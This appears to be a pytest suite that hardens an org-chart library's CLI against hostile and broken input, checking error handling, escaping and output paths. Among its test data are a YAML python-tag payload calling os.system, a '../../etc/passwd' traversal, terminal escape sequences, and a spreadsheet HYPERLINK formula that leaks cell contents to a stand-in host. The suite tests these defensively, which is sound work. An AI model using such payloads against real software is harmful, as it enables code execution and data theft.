"""Hostile and broken input (issue 12): a standing suite so the audit's failures cannot come back.

Every case is bounded in time and memory, never by a wall clock:

* ordinary cases run in this process under :func:`bounded` — CPU seconds
  (``time.process_time``) and the peak of Python allocations (``tracemalloc``);
* bomb cases and whole-command cases run ``python -m orglib.cli`` in a subprocess
  under ``resource.setrlimit`` (``RLIMIT_AS`` address space, ``RLIMIT_CPU`` seconds),
  so a regression dies of the limit instead of eating the machine; those assert
  the exit code, the one-line message and no ``Traceback`` on stderr.
"""

from __future__ import annotations

import contextlib
import json
import os
import resource
import subprocess
import sys
import time
import tracemalloc
from pathlib import Path

import pytest

import orglib
from orglib._core import OrgInputError, OrgValidationError
from orglib._core.model import Org
from orglib.cli import main

CPU_SECONDS = 30  # per in-process case (CPU time, not wall clock)
PY_MEMORY = 300 * 2**20  # peak Python allocations per in-process case
SUB_AS = 3 * 2**30  # address space of a CLI subprocess (imports of pandas/numpy included)
SUB_CPU = 90  # CPU seconds of a CLI subprocess

ESC = "\x1b]0;PWNED\x07\x1b[31m"


@contextlib.contextmanager
def bounded(cpu: float = CPU_SECONDS, memory: int = PY_MEMORY):
    """Assert the block used at most ``cpu`` CPU seconds and ``memory`` bytes of Python heap."""
    tracemalloc.start()
    t0 = time.process_time()
    try:
        yield
    finally:
        used = time.process_time() - t0
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    assert used < cpu, f"used {used:.1f} CPU s (bound {cpu})"
    assert peak < memory, f"peak {peak / 2**20:.0f} MB of Python heap (bound {memory / 2**20:.0f})"


def _limit(memory: int, cpu: int):
    def apply() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (memory, memory))
        resource.setrlimit(resource.RLIMIT_CPU, (cpu, cpu))
    return apply


def cli(*args: str, memory: int = SUB_AS, cpu: int = SUB_CPU, env: dict | None = None,
        cwd: str | None = None, user: int | None = None) -> subprocess.CompletedProcess:
    """``orglib ARGS`` in a subprocess under an address-space and CPU limit."""
    limit = _limit(memory, cpu)

    def pre() -> None:
        limit()
        if user is not None:
            os.setgid(user)
            os.setuid(user)

    e = {**os.environ, "OMP_NUM_THREADS": "1", "OPENBLAS_NUM_THREADS": "1", "MKL_NUM_THREADS": "1",
         "PYTHONPATH": str(Path(orglib.__file__).parent.parent), **(env or {})}
    e.pop("ORGLIB_LANG", None) if "ORGLIB_LANG" not in (env or {}) else None
    r = subprocess.run([sys.executable, "-m", "orglib.cli", *args], capture_output=True, text=True,
                       env=e, cwd=cwd, preexec_fn=pre, timeout=600)
    assert "Traceback" not in r.stderr, r.stderr
    assert r.returncode >= 0, f"killed by signal {-r.returncode} (a limit was hit): {r.stderr}"
    return r


def run_main(capsys, *args: str) -> tuple[int, str, str]:
    """``orglib ARGS`` in this process, bounded; (exit code, stdout, stderr)."""
    with bounded():
        code = main(list(args))
    out, err = capsys.readouterr()
    assert "Traceback" not in err, err
    return code, out, err


def one_line(err: str) -> str:
    lines = [ln for ln in err.splitlines() if ln.strip()]
    assert len(lines) == 1, err
    return lines[0]


@pytest.fixture
def good(tmp_path) -> Path:
    p = tmp_path / "good.csv"
    p.write_text("id,title,reports_to,headcount\nm,经理,,1\ne,专员,m,3\n", encoding="utf-8")
    return p


def hostile_org(title: str) -> Org:
    return Org.from_records([{"id": "m", "title": title, "headcount": 1},
                             {"id": "e", "title": "专员", "reports_to": "m", "headcount": 3}],
                            meta={"id": "h", "name": title})


# ====================================================================== CLI: one line, no traceback


def test_missing_file_is_one_line_naming_it(capsys, tmp_path):
    code, _, err = run_main(capsys, "spans", str(tmp_path / "nope.csv"), "--lang", "en")
    assert code == 2 and "nope.csv" in one_line(err) and "no such file" in err


def test_missing_file_in_chinese_when_asked(capsys, tmp_path):
    code, _, err = run_main(capsys, "spans", str(tmp_path / "nope.csv"), "--lang", "zh")
    assert code == 2 and "文件不存在" in one_line(err) and "no such file" not in err


def test_no_lang_chosen_gives_both_languages(capsys, tmp_path):
    code, _, err = run_main(capsys, "convert", str(tmp_path / "nope.csv"), str(tmp_path / "o.yaml"))
    assert code == 2 and "no such file" in err and "文件不存在" in err


def test_orglib_lang_environment_sets_default(capsys, tmp_path, monkeypatch):
    monkeypatch.setenv("ORGLIB_LANG", "en")
    code, out, err = run_main(capsys, "show", "four-posts")
    assert code == 0 and "Marketing Manager" in out


@pytest.mark.parametrize("command", ["validate", "spans", "show", "raci", "workflows", "compare"])
def test_default_language_is_one_for_every_command(capsys, good, command, monkeypatch):
    monkeypatch.delenv("ORGLIB_LANG", raising=False)
    p = good.with_name("bad.csv")
    p.write_text("id,reports_to\na,\nb,zz\n", encoding="utf-8")
    code, out, err = run_main(capsys, command, str(p))
    assert code == 1
    assert "不是岗位编号或名称" in err or "上级" in err, err  # Chinese, like every other command


def test_internal_error_is_one_line_with_debug_hint(capsys, monkeypatch, good):
    import orglib.analysis as analysis

    def boom(*a, **k):
        raise ZeroDivisionError("float division by zero")

    monkeypatch.setattr(analysis, "spans_layers", boom)
    code, _, err = run_main(capsys, "spans", str(good), "--lang", "en")
    line = one_line(err)
    assert code == 1 and "internal error" in line and "run with --debug for details" in line
    assert "ZeroDivisionError" in line


def test_debug_shows_the_traceback(capsys, monkeypatch, good):
    import orglib.analysis as analysis

    monkeypatch.setattr(analysis, "spans_layers", lambda *a, **k: 1 / 0)
    with pytest.raises(ZeroDivisionError):
        main(["spans", str(good), "--debug"])


def test_oserror_is_one_line_naming_the_file(capsys, monkeypatch, good):
    import orglib.io as oio

    def denied(*a, **k):
        raise PermissionError(13, "Permission denied", str(good))

    monkeypatch.setattr(oio, "load", denied)
    code, _, err = run_main(capsys, "spans", str(good), "--lang", "en")
    assert code == 2 and one_line(err) == f"orglib: {good}: permission denied"


def test_stray_parse_error_names_the_input(capsys, monkeypatch, good):
    import orglib.io as oio

    def bad(*a, **k):
        return json.loads("{")

    monkeypatch.setattr(oio, "load", bad)
    code, _, err = run_main(capsys, "spans", str(good), "--lang", "en")
    assert code == 2 and str(good) in one_line(err) and "not valid JSON" in err


def test_memory_error_is_one_line(capsys, monkeypatch, good):
    import orglib.io as oio

    def oom(*a, **k):
        raise MemoryError

    monkeypatch.setattr(oio, "load", oom)
    code, _, err = run_main(capsys, "spans", str(good), "--lang", "en")
    assert code == 2 and "out of memory" in one_line(err)


def test_recursion_error_is_one_line(capsys, monkeypatch, good):
    import orglib.io as oio

    def deep(*a, **k):
        raise RecursionError("maximum recursion depth exceeded")

    monkeypatch.setattr(oio, "load", deep)
    code, _, err = run_main(capsys, "spans", str(good), "--lang", "en")
    assert code == 2 and "nested too deeply" in one_line(err)


def test_empty_file_exits_2_as_readme_says(capsys, tmp_path):
    p = tmp_path / "empty.csv"
    p.write_text("")
    code, _, err = run_main(capsys, "validate", str(p), "--lang", "en")
    assert code == 2 and "empty" in err
    code, _, err = run_main(capsys, "spans", str(p), "--lang", "en")
    assert code == 2


def test_header_only_file_exits_2(capsys, tmp_path):
    p = tmp_path / "h.csv"
    p.write_text("id,title,reports_to\n")
    code, _, _ = run_main(capsys, "validate", str(p), "--lang", "en")
    assert code == 2


def test_validate_problems_exit_1_unreadable_2(capsys, good, tmp_path):
    bad = tmp_path / "b.csv"
    bad.write_text("id,reports_to\na,\nb,zz\n")
    assert run_main(capsys, "validate", str(good), str(bad))[0] == 1
    assert run_main(capsys, "validate", str(bad), str(tmp_path / "none.csv"))[0] == 2


def test_validate_zh_ok_line(capsys, good):
    code, out, _ = run_main(capsys, "validate", str(good), "--lang", "zh")
    assert code == 0 and "OK(2 个岗位,4 人)" in out


def test_subprocess_missing_file_no_traceback(tmp_path):
    r = cli("validate", str(tmp_path / "missing.yaml"), "--lang", "en")
    assert r.returncode == 2 and "missing.yaml" in r.stderr and "no such file" in r.stderr


# ====================================================================== terminal escapes


def test_show_escapes_control_characters(capsys, tmp_path):
    p = tmp_path / "t.yaml"
    orglib.save(hostile_org(ESC), p)
    code, out, err = run_main(capsys, "show", str(p))
    assert code == 0 and "\x1b" not in out + err and "\x07" not in out + err
    assert "\\x1b]0;PWNED\\x07\\x1b[31m" in out


def test_spans_escapes_control_characters(capsys, tmp_path):
    p = tmp_path / "t.yaml"
    orglib.save(hostile_org(ESC), p)
    code, out, err = run_main(capsys, "spans", str(p))
    assert code == 0 and "\x1b" not in out + err and "\\x1b" in out


def test_show_title_newline_stays_on_one_line(capsys, tmp_path):
    p = tmp_path / "t.yaml"
    orglib.save(hostile_org("经理\n  └ 假岗位 [x] ×9"), p)
    code, out, _ = run_main(capsys, "show", str(p))
    assert code == 0 and "经理\\n  └ 假岗位" in out and len(out.splitlines()) == 3


def test_c1_and_bidi_controls_escaped(capsys, tmp_path):
    p = tmp_path / "t.yaml"
    orglib.save(hostile_org("a\x9b31mb\u202ec"), p)
    code, out, _ = run_main(capsys, "show", str(p))
    assert code == 0 and "\x9b" not in out and "\u202e" not in out and "\\x9b" in out and "\\u202e" in out


def test_json_output_escapes_and_stays_valid(capsys, tmp_path):
    p = tmp_path / "t.yaml"
    orglib.save(hostile_org(ESC + "\x9b\u202e"), p)
    code, out, _ = run_main(capsys, "show", str(p), "--json")
    assert code == 0 and "\x1b" not in out and "\x9b" not in out and "\u202e" not in out
    assert json.loads(out)["positions"][0]["title"] == ESC + "\x9b\u202e"


def test_validate_message_escapes_control_characters(capsys, tmp_path):
    p = tmp_path / "t.csv"
    p.write_text(f"id,title,reports_to\nm,经理,\ne,x,{ESC}\n", encoding="utf-8")
    code, out, err = run_main(capsys, "validate", str(p))
    assert code == 1 and "\x1b" not in out + err and "\x07" not in out + err


def test_error_message_escapes_control_characters(capsys, tmp_path):
    code, _, err = run_main(capsys, "spans", str(tmp_path / f"n{ESC}.csv"), "--lang", "en")
    assert code == 2 and "\x1b" not in err and "\\x1b" in err


def test_compare_names_escaped(capsys):
    code, out, _ = run_main(capsys, "compare", "four-posts", "duocai-asis", "--names", f"a{ESC},b",
                            "--no-diff")
    assert code == 0 and "\x1b" not in out


# ====================================================================== output names and targets


def test_report_name_with_separator_refused(capsys, tmp_path):
    code, _, err = run_main(capsys, "report", "four-posts", "--out", str(tmp_path), "--name", "/abs/x",
                            "--lang", "en")
    assert code == 2 and "--name '/abs/x' must be a file name without folders" in one_line(err)
    assert not list(tmp_path.iterdir())


def test_report_name_dotdot_refused(capsys, tmp_path):
    code, _, err = run_main(capsys, "report", "four-posts", "--out", str(tmp_path / "r"), "--name", "..",
                            "--lang", "en")
    assert code == 2 and "must be a file name" in err


def test_report_name_too_long_refused(capsys, tmp_path):
    code, _, err = run_main(capsys, "report", "four-posts", "--out", str(tmp_path), "--name", "x" * 300,
                            "--lang", "en")
    assert code == 2 and "too long" in one_line(err)


def test_batch_name_escaping_refused_before_any_job(tmp_path):
    from orglib.reporting import read_params_text

    with pytest.raises(OrgInputError) as info:
        read_params_text("org,name\nfour-posts,ok\nfour-posts,../escaped\n")
    assert "row 3" in info.value.en and "'../escaped'" in info.value.en


def test_render_refuses_a_path_name(tmp_path):
    from orglib.reporting import render

    with pytest.raises(OrgInputError):
        render("four-posts", out_dir=tmp_path, name="../x")
    assert not (tmp_path.parent / "x.html").exists()


def test_report_out_is_a_file(capsys, tmp_path):
    f = tmp_path / "file.txt"
    f.write_text("x")
    code, _, err = run_main(capsys, "report", "four-posts", "--out", str(f), "--lang", "en")
    assert code == 2 and one_line(err).startswith(f"orglib: {f}: is a file, not a folder")


def test_report_batch_out_is_a_file(capsys, tmp_path):
    f = tmp_path / "file.txt"
    f.write_text("x")
    b = tmp_path / "b.csv"
    b.write_text("org\nfour-posts\n")
    code, _, err = run_main(capsys, "report", "--batch", str(b), "--out", str(f), "--lang", "en")
    assert code == 2 and "is a file, not a folder" in one_line(err)


def test_sweep_grid_is_a_folder(capsys, tmp_path):
    code, _, err = run_main(capsys, "sweep", "four-posts", "--grid", str(tmp_path), "--lang", "en")
    assert code == 2 and "is a folder" in one_line(err) and str(tmp_path) in err


def test_sweep_out_is_a_folder_fails_before_running(capsys, tmp_path):
    code, _, err = run_main(capsys, "sweep", "four-posts", "--param", "growth=0", "--months", "2",
                            "--runs", "1", "--scheduler", "sync", "--out", str(tmp_path), "--lang", "en")
    assert code == 2 and "is a folder, not a file" in one_line(err)


def test_convert_target_is_a_folder(capsys, good, tmp_path):
    d = tmp_path / "dir.csv"
    d.mkdir()
    code, _, err = run_main(capsys, "convert", str(good), str(d), "--lang", "en")
    assert code == 2 and one_line(err).startswith(f"orglib: {d}: is a folder, not a file")


def test_convert_target_read_only_file(capsys, good, tmp_path):
    t = tmp_path / "ro.yaml"
    t.write_text("keep")
    t.chmod(0o444)
    code, _, err = run_main(capsys, "convert", str(good), str(t), "--lang", "en")
    assert code == 2 and "is read-only" in one_line(err) and t.read_text() == "keep"


def test_convert_target_folder_missing(capsys, good, tmp_path):
    code, _, err = run_main(capsys, "convert", str(good), str(tmp_path / "no" / "o.csv"), "--lang", "en")
    assert code == 2 and "folder does not exist" in one_line(err)


def test_convert_target_name_too_long(capsys, good, tmp_path):
    t = tmp_path / ("n" * 260 + ".csv")
    code, _, err = run_main(capsys, "convert", str(good), str(t), "--lang", "en")
    assert code == 2 and "file name too long" in one_line(err)


def test_save_name_too_long_is_an_input_error(tmp_path):
    with pytest.raises(OrgInputError) as info:
        orglib.save(hostile_org("x"), tmp_path / ("n" * 250 + ".yaml"))
    assert "file name too long" in info.value.en


@contextlib.contextmanager
def read_only_dir(path: Path):
    """A folder nobody can write in: mode 0555, or for root (who ignores modes) immutable."""
    import shutil

    path.mkdir()
    if os.geteuid() == 0:
        if not shutil.which("chattr") or subprocess.run(["chattr", "+i", str(path)]).returncode:
            pytest.skip("running as root and chattr +i is not available")
        try:
            yield path
        finally:
            subprocess.run(["chattr", "-i", str(path)])
    else:
        path.chmod(0o555)
        try:
            yield path
        finally:
            path.chmod(0o755)


def test_convert_into_read_only_folder(good, tmp_path):
    with read_only_dir(tmp_path / "ro") as ro:
        r = cli("convert", str(good), str(ro / "o.csv"), "--lang", "en")
    assert r.returncode == 2 and "folder is read-only" in one_line(r.stderr)


def test_report_into_read_only_folder_fails_before_render(capsys, tmp_path):
    from orglib.reporting import _render

    calls = []
    with read_only_dir(tmp_path / "ro") as ro, pytest.MonkeyPatch.context() as mp:
        import papermill

        mp.setattr(papermill, "execute_notebook", lambda *a, **k: calls.append(a))
        code, _, err = run_main(capsys, "report", "four-posts", "--out", str(ro), "--lang", "en")
    assert code == 2 and "folder is read-only" in one_line(err) and calls == []
    assert _render is not None


def test_report_batch_into_read_only_folder(capsys, tmp_path):
    b = tmp_path / "b.csv"
    b.write_text("org\nfour-posts\n")
    with read_only_dir(tmp_path / "ro") as ro:
        code, _, err = run_main(capsys, "report", "--batch", str(b), "--out", str(ro), "--lang", "en")
    assert code == 2 and "folder is read-only" in one_line(err)


# ====================================================================== temp files of a killed run


def test_stale_temp_file_of_a_dead_process_is_cleaned(tmp_path):
    target = tmp_path / "o.yaml"
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True,
                          text=True).stdout.strip()
    stale = tmp_path / f".o.yaml.{dead}-abcd1234.orglib-tmp"
    stale.write_text("half")
    old = time.time() - 3600
    os.utime(stale, (old, old))
    fresh = tmp_path / f".o.yaml.{os.getpid()}-zzzz.orglib-tmp"
    fresh.write_text("mine, in progress")
    orglib.save(hostile_org("x"), target)
    assert not stale.exists() and fresh.exists() and target.exists()


def test_stale_temp_dir_of_a_dead_process_is_cleaned(tmp_path):
    from orglib._core import clean_stale_temp_dirs

    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True,
                          text=True).stdout.strip()
    d = tmp_path / f"orglib-report-{dead}-x1y2"
    d.mkdir()
    (d / "executed.ipynb").write_text("{}")
    mine = tmp_path / f"orglib-report-{os.getpid()}-live"
    mine.mkdir()
    other = tmp_path / "orglib-unrelated"
    other.mkdir()
    old = time.time() - 3600
    for x in (d, mine, other):
        os.utime(x, (old, old))
    assert clean_stale_temp_dirs(tmp_path) == [d]
    assert mine.exists() and other.exists()


def test_sigkill_during_write_leaves_old_file_and_next_save_cleans(tmp_path):
    target = tmp_path / "o.csv"
    orglib.save(hostile_org("old"), target)
    code = (
        "import os, signal, orglib, pathlib\n"
        "from orglib._core import fs\n"
        "def write(tmp):\n"
        "    tmp.write_text('partial')\n"
        "    os.kill(os.getpid(), signal.SIGKILL)\n"
        f"fs.atomic_write(pathlib.Path({str(target)!r}), write)\n"
    )
    r = subprocess.run([sys.executable, "-c", code], capture_output=True, preexec_fn=_limit(SUB_AS, SUB_CPU))
    assert r.returncode == -9
    left = list(tmp_path.glob(".o.csv.*.orglib-tmp"))
    assert len(left) == 1
    old = time.time() - 3600
    os.utime(left[0], (old, old))
    assert orglib.load(target).positions.loc[0, "title"] == "old"
    orglib.save(hostile_org("new"), target)
    assert not list(tmp_path.glob(".*.orglib-tmp"))
    assert orglib.load(target).positions.loc[0, "title"] == "new"


# ====================================================================== held cases worth keeping


def test_yaml_python_tag_refused(tmp_path):
    p = tmp_path / "t.yaml"
    p.write_text("positions:\n  - id: !!python/object/apply:os.system ['echo PWNED']\n")
    with bounded(), pytest.raises(OrgInputError):
        orglib.load(p)


def test_template_id_traversal_refused():
    with bounded(), pytest.raises(OrgInputError):
        orglib.load("../../etc/passwd")


def test_formula_in_value_escaped_in_csv(tmp_path):
    p = tmp_path / "f.csv"
    with bounded():
        orglib.save(hostile_org('=HYPERLINK("http://x/?"&A2,"click")'), p)
    assert "'=HYPERLINK" in p.read_text(encoding="utf-8-sig")
    assert orglib.load(p).positions.loc[0, "title"].startswith("=HYPERLINK")


def test_validation_error_lists_every_problem(tmp_path):
    p = tmp_path / "m.csv"
    p.write_text("id,reports_to,headcount\nhead,,1\na,zz,1\nb,head,-1\n")
    with bounded(), pytest.raises(OrgValidationError) as info:
        orglib.load(p)
    assert sorted(info.value.codes()) == ["headcount_negative", "unknown_manager"]
